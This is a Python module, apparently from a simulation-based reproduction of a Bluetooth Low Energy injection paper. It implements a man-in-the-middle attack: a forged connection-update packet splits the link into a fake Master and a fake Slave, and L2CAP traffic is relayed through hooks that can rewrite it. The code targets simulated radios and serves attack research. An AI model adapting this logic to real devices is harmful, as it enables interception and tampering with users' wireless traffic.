"""Scenario D: Man-in-the-Middle on an established connection (§VI-C).

Same entry as Scenario C — a forged ``LL_CONNECTION_UPDATE_IND`` — but at
the instant the attacker forks:

* toward the **Slave**: a fake Master polls on the new (attacker-chosen)
  schedule;
* toward the **Master**: a fake Slave answers on the old schedule, which
  the real Slave abandoned.

Traffic is relayed between the halves through mutation hooks, reproducing
the paper's on-the-fly SMS and RGB rewrites.  The two halves use separate
transceivers at the attacker's position (the schedules interleave in time
but overlap occasionally; see DESIGN.md for the substitution note).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.injection import InjectionReport
from repro.core.roles import FakeMaster, FakeSlave
from repro.core.sniffer import SniffedEvent
from repro.errors import AttackError
from repro.ll.pdu.control import ConnectionUpdateInd
from repro.sim.clock import SleepClock
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Safety margin inside the new transmit window for the first poll:
#: one inter-frame space, the smallest spec-visible timing quantum.
_FIRST_POLL_OFFSET_US = T_IFS_US

#: Hook type: receives an L2CAP frame, returns the (possibly modified)
#: frame to forward, or ``None`` to drop it.
RelayHook = Callable[[bytes], Optional[bytes]]


@dataclass
class ScenarioDResult:
    """Outcome of the MitM.

    Attributes:
        report: injection report of the forged connection update.
        fake_master: Slave-facing half (None on failure).
        fake_slave: Master-facing half (None on failure).
    """

    report: InjectionReport
    fake_master: Optional[FakeMaster] = None
    fake_slave: Optional[FakeSlave] = None

    @property
    def success(self) -> bool:
        """Whether both relay halves are running."""
        return (self.report.success and self.fake_master is not None
                and self.fake_slave is not None)


class MitmScenario:
    """Full MitM via a forged connection update.

    Args:
        attacker: a synchronised attacker.
        master_to_slave: mutation hook for Master→Slave L2CAP frames.
        slave_to_master: mutation hook for Slave→Master L2CAP frames.
        new_interval / win_offset / win_size / instant_delta: forged-update
            parameters, as in Scenario C.
    """

    def __init__(
        self,
        attacker: Attacker,
        master_to_slave: Optional[RelayHook] = None,
        slave_to_master: Optional[RelayHook] = None,
        new_interval: Optional[int] = None,
        win_offset: int = 3,
        win_size: int = 2,
        instant_delta: int = 40,
    ):
        if win_offset < 1:
            raise AttackError("win_offset must be >= 1 to desynchronise")
        self.attacker = attacker
        self.master_to_slave = master_to_slave
        self.slave_to_master = slave_to_master
        self.new_interval = new_interval
        self.win_offset = win_offset
        self.win_size = win_size
        self.instant_delta = instant_delta
        self.fake_master: Optional[FakeMaster] = None
        self.fake_slave: Optional[FakeSlave] = None
        self._update: Optional[ConnectionUpdateInd] = None
        self._on_done: Optional[Callable[[ScenarioDResult], None]] = None
        self._prev_on_event = None
        self._report: Optional[InjectionReport] = None
        self._relay_radio: Optional[Transceiver] = None

    def run(self, on_done: Optional[Callable[[ScenarioDResult], None]] = None
            ) -> None:
        """Inject the forged update, then fork into the two relay halves."""
        conn = self.attacker.connection
        if conn is None:
            raise AttackError("attacker is not synchronised")
        self._on_done = on_done
        interval = (self.new_interval if self.new_interval is not None
                    else conn.params.interval)
        self._update = ConnectionUpdateInd(
            win_size=self.win_size,
            win_offset=self.win_offset,
            interval=interval,
            latency=0,
            timeout=conn.params.timeout,
            instant=(conn.event_count + self.instant_delta) & 0xFFFF,
        )
        self.attacker.inject_control(self._update, on_done=self._injected)

    # ------------------------------------------------------------------
    # Phases
    # ------------------------------------------------------------------

    def _injected(self, report: InjectionReport) -> None:
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        if not report.success:
            self._finish(ScenarioDResult(report=report))
            return
        if not conn.instant_in_future_for(self._update.instant):
            self._update = None
            self.run(self._on_done)
            return
        conn.observe_update(self._update)
        self._report = report
        self._prev_on_event = self.attacker.sniffer.on_event
        self.attacker.sniffer.on_event = self._watch_for_instant
        self.attacker.resume_sniffing()

    def _watch_for_instant(self, event: SniffedEvent) -> None:
        if self._prev_on_event is not None:
            self._prev_on_event(event)
        conn = self.attacker.connection
        assert conn is not None and self._update is not None
        if ((self._update.instant - 1 - conn.event_count) & 0xFFFF) != 0:
            return
        self.attacker.sniffer.on_event = self._prev_on_event
        self.attacker.sniffer.cancel()
        self._fork(conn)

    def _fork(self, conn) -> None:
        sim = self.attacker.sim
        # Master-facing half keeps the old schedule: fork the state before
        # the update applies.
        old_conn = conn.clone()
        old_conn.advance_event()  # the instant event, old parameters
        forged = conn.forged_bits() if conn.slave_bits.seen else (0, 0)
        conn.advance_event()  # applies the forged update (new schedule)

        self._relay_radio = self._make_relay_radio()
        fake_slave = FakeSlave(
            sim, self._relay_radio, old_conn,
            on_data=self._relay_master_to_slave,
            name=f"{self.attacker.name}-mitm-slave",
        )
        fake_master = FakeMaster(
            sim, self.attacker.radio, conn,
            on_data=self._relay_slave_to_master,
            forged_bits=forged,
            name=f"{self.attacker.name}-mitm-master",
        )
        self.fake_slave = fake_slave
        self.fake_master = fake_master
        # The fake slave must catch the legitimate Master's frame at the
        # instant event, which is imminent on the old schedule.
        fake_slave._running = True
        fake_slave.radio.on_frame = fake_slave._on_frame
        predicted = old_conn.predicted_anchor_us()
        from repro.ll.timing import window_widening_us
        w = window_widening_us(old_conn.params.master_sca_ppm, 50.0,
                               predicted - (old_conn.last_anchor_us or predicted))
        fake_slave._schedule(predicted - w - 250.0,
                             lambda: fake_slave._open(old_conn.current_channel or 0),
                             "mitm-slave-first-open")
        fake_slave._schedule(predicted + w + 250.0, fake_slave._window_closed,
                             "mitm-slave-first-close")
        first_tx = (conn.last_anchor_us or sim.now)
        fake_master.start(first_tx_us=first_tx + _FIRST_POLL_OFFSET_US)
        self._finish(ScenarioDResult(report=self._report,
                                     fake_master=fake_master,
                                     fake_slave=fake_slave))

    def _make_relay_radio(self) -> Transceiver:
        sim = self.attacker.sim
        medium = self.attacker.medium
        name = f"{self.attacker.name}#relay"
        position = medium.topology.position_of(self.attacker.name)
        medium.topology.place(name, position.x, position.y)
        return Transceiver(
            sim, medium, name,
            clock=SleepClock(10.0, rng=sim.streams.get(f"clock-{name}"),
                             jitter_us=0.5),
            tx_power_dbm=self.attacker.radio.tx_power_dbm,
        )

    # ------------------------------------------------------------------
    # Relaying
    # ------------------------------------------------------------------

    def _relay_master_to_slave(self, l2cap_frame: bytes) -> None:
        forwarded: Optional[bytes] = l2cap_frame
        if self.master_to_slave is not None:
            forwarded = self.master_to_slave(l2cap_frame)
        if forwarded is not None and self.fake_master is not None:
            self.fake_master.queue_l2cap(forwarded)
            if self.attacker.sim.trace.enabled:
                self.attacker.sim.trace.record(
                    self.attacker.sim.now, self.attacker.name, "mitm-relay",
                    direction="m->s", mutated=forwarded != l2cap_frame,
                )

    def _relay_slave_to_master(self, l2cap_frame: bytes) -> None:
        forwarded: Optional[bytes] = l2cap_frame
        if self.slave_to_master is not None:
            forwarded = self.slave_to_master(l2cap_frame)
        if forwarded is not None and self.fake_slave is not None:
            self.fake_slave.queue_l2cap(forwarded)
            if self.attacker.sim.trace.enabled:
                self.attacker.sim.trace.record(
                    self.attacker.sim.now, self.attacker.name, "mitm-relay",
                    direction="s->m", mutated=forwarded != l2cap_frame,
                )

    def _finish(self, result: ScenarioDResult) -> None:
        if self._on_done is not None:
            self._on_done(result)
